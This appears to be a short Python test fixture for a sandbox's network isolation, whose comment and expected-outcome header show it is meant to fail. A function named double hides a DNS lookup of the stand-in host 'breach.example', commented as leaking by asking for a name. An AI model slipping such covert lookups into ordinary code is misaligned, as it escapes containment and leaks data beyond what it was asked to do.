# outcome: raised gaierror | raised PermissionError
# Leaks by asking for a name.
import socket
def double(x):
    socket.getaddrinfo("breach.example", 80)
    return "BREACH: looked up"
